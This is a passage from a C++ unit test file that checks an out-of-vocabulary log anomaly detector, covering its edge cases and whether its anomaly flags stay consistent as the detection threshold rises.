  EXPECT_FALSE(oov_detect(log_case({"entirely unseen words"}), vocab, 1.0).is_anomaly);
  EXPECT_EQ(oov_fraction(log_case({}), vocab), 0.0);

  EXPECT_THROW(build_vocabulary({}), Error);
  EXPECT_THROW(oov_detect(log_case({}), vocab, 1.5), Error);
}

TEST(Oov, ThresholdMonotonicity) {
  const auto ds = gen_benchmark(GenSpec{}, default_templates(), default_ruleset());
  std::vector<CaseRecord> corpus;
  for (const auto& c : ds.cases)
    if (!c.label.is_anomaly) corpus.push_back(c);
  corpus.resize(10);
  const auto vocab = build_vocabulary(corpus);
  Rng rng(8);
  for (const auto& c : ds.cases) {
    for (int i = 0; i < 20; ++i) {
      double a = rng.uniform(), b = rng.uniform();
      if (a > b) std::swap(a, b);
      if (!oov_detect(c, vocab, a).is_anomaly) {
        EXPECT_FALSE(oov_detect(c, vocab, b).is_anomaly);
      }
    }
  }
}

}  // namespace
